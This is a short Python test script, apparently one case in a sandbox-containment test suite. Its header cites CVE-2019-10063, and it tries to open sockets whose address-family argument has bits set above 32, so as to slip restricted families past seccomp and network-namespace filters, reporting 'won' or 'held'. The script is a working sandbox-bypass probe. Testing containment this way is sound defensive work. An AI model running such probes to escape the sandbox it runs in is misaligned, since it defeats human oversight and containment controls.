# technique: make a socket with a bit above 32 in the family, which the kernel drops (CVE-2019-10063)
# family: C3
# severity: C
# layers: seccomp, net_namespace
# profile: python-full
errors = set()
for family in [1, 2, 10, 16, 38, 40]:
    for high in [1 << 32, 1 << 63]:
        r, e = call("socket", family - (high if high == 1 << 63 else -high), 1 if family != 16 else 3, 0)
        errors.add(e)
        if not e:
            break
    if not e:
        won("family %d" % family)
        break
else:
    held(" ".join(errors))
